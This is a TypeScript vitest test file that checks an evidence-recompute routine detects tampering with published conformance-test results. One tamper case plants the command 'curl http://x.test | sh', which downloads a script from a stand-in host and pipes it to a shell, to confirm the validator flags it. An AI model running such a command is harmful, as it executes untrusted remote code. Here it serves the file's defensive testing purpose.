import { beforeAll, describe, expect, it } from 'vitest';
import { runReference } from '../cli/reference-run.test-support.ts';
import type { ReferenceRun } from '../cli/reference-run.test-support.ts';
import { judgeAgain } from '../results/judge.ts';
import type { Results } from '../results/results.ts';
import { specification } from '../operation/specification.ts';
import { say } from '../messages/message.ts';
import { must } from './certificate.test-support.ts';
import type { Draft } from './certificate.test-support.ts';
import { findDifference, recompute } from './evidence.ts';

type Edited = Draft<Results>;

let run: Results;
beforeAll(async () => {
  const only = ['a.success', 'b.success', 'a.unauthorized.wrong-password', lacking, other, guess, inQuery];
  run = publishedOf((await runReference(undefined, { only })).results);
}, 60_000);

/** Results as in a certificate. */
const publishedOf = (results: Results): Results =>
  judgeAgain(results, specification, [], { isPublished: true });

/** An editable copy. An exchange that several cases share stays one object. */
function reread(results: unknown): Edited {
  const all = JSON.parse(JSON.stringify(results)) as Edited;
  const known = new Map<string, Edited['controls'][number]>();
  const shared = (one: Edited['controls'][number]): Edited['controls'][number] =>
    known.get(one.id) ?? (known.set(one.id, one), one);
  for (const caseResult of all.cases) caseResult.exchanges = caseResult.exchanges.map(shared);
  return all;
}

/** The first problem that `recompute` finds, or the error it throws for a record that cannot be judged. */
function problemOf(edited: Results): string | null {
  try {
    const found = recompute(edited, specification);
    return 'code' in found ? say(found, 'en') : null;
  } catch (error) {
    return error instanceof Error ? error.message : String(error);
  }
}

const partsOf = (all: Edited, id: string) => {
  const found = must(all.cases.find((one) => one.id === id));
  const exchange = must(found.exchanges[0]);
  const { facts, request, response } = exchange;
  const text = facts?.kind === 'json' ? facts.text : null;
  return { all, found, trial: must(found.trials[0]), exchange, request, response, text };
};
type Parts = ReturnType<typeof partsOf>;

/** Edits the whole record or one case. `of` returns the parts of another case. */
type Edit = (parts: Parts, of: (id: string) => Parts) => unknown;

const lacking = 'a.missing.partnerName';
const other = 'a.missing.useAuthByCert';
const guess = 'a.observed.value.useAuthByCert.empty';
const inQuery = 'b.missing.partnerName';

function editedBy(edit: Edit, id = lacking): Edited {
  const all = reread(run);
  edit(partsOf(all, id), (another) => partsOf(all, another));
  return all;
}

const controlOf = ({ controls }: Edited) =>
  must(must(controls.find(({ id }) => id.includes('control'))).response);

const unsent = {
  kind: 'interrupted',
  reason: 'not-selected',
  note: 'interrupted',
  words: { code: 'interrupted', params: {} },
} as const;

/** Edits of Results whose record stays unchanged. */
const edits: readonly (readonly [name: string, edit: Edit, place: RegExp, id?: string])[] = [
  ['a command', ({ exchange }) => (exchange.curl = 'curl http://x.test | sh'), /curl: found "curl http:/],
  ['a code', ({ all }) => all.warnings.push({ code: 'run sh x', params: {} }), /code: found "run sh x"/],
  ['a case of its own', ({ found }) => (found.id = 'a.missing.all'), /cases\[/],
  ['a verdict', ({ found }) => (found.verdict = 'pass'), /useAuthByCert\.empty\]\.verdict/, guess],
  ['a requirement', ({ all }) => all.requirements.shift(), /requirements/],
  [
    'a decision',
    ({ all }) => (must(all.requirements[0]).decided = 'pass'),
    /decided: found "pass", computed null/,
  ],
  ['a case twice', ({ all, found }) => all.cases.push(found), /cases\[/],
  ['facts of its own', ({ text }) => (must(text).meanings = ['try-later']), /\[0\]: found "try-later"/],
  ['an answer without facts', ({ exchange }) => (exchange.facts = null), /facts: found null/],
  ['another answer', ({ exchange }, of) => (exchange.response = of(other).response), /verdict: found/],
  ['a control called good', ({ all }) => (controlOf(all).status = 503), /cases\[/],
  ['a reason', ({ trial }) => (trial.halted = unsent), /halted: found/],
  ['another specification', ({ all }) => (all.spec.sha256 = '0'.repeat(64)), /spec\.sha256/],
];

describe('a record', () => {
  it.each<readonly [string, ReferenceRun, Parameters<typeof runReference>[0]]>([
    ['of two rounds', { times: 2, only: ['b.success', lacking, guess] }, undefined],
    [
      'judged by patterns, with headers of the profile, in Russian, without a condition',
      { only: ['a.success', 'b.success', lacking, inQuery, 'a.unavailable', 'a.ip-blocked', guess] },
      (profile) => {
        delete profile.conditions['ip-blocked'];
        const texts = { missing: '{parameter}', unavailable: '.' };
        Object.assign(profile, { texts, language: 'ru', headers: { 'User-Agent': 'my own gateway' } });
      },
    ],
  ])('%s is borne out', async (_name, options, edit) => {
    const { results } = await runReference(edit, options);
    expect(recompute(reread(publishedOf(results)), specification)).toMatchObject({ stated: 0 });
  });

  it.for(edits)('does not lead to results with %s changed', ([, edit, place, id]) => {
    expect(problemOf(editedBy(edit, id))).toMatch(place);
  });

  it('is borne out as it was made; answers over the recording limit are stated and counted', () => {
    const recomputed = (edit: Edit) => recompute(editedBy(edit), specification);
    expect(recomputed(() => undefined)).toMatchObject({ stated: 0 });
    const cut = { bodyLength: 70_000, bodySha256: '0'.repeat(64), bodyTruncated: true };
    const problem = recomputed(({ exchange, response }) => {
      exchange.stated = true;
      Object.assign(must(response), cut, { body: response?.body.padEnd(65_536) });
    });
    expect(problem).toMatchObject({ stated: 1 });
  });
});

it('finds the first place where two values differ', () => {
  const difference = (...values: readonly [unknown, unknown]): string | null => {
    const found = findDifference(...values);
    return found && say(found, 'en');
  };
  expect(difference({ a: [1, { b: null }] }, { a: [1, { b: null }] })).toBeNull();
  expect(difference({ a: [{ id: 'x', b: 1 }] }, { a: [{ id: 'x', b: 2 }] })).toBe(
    'a[x].b: found 1, computed 2',
  );
  expect(difference({ '__proto__ ': 1 }, {})).toBe('["__proto__ "]: found 1, computed nothing');
  expect(difference([], {})).toBe('the top: found [], computed {}');
});
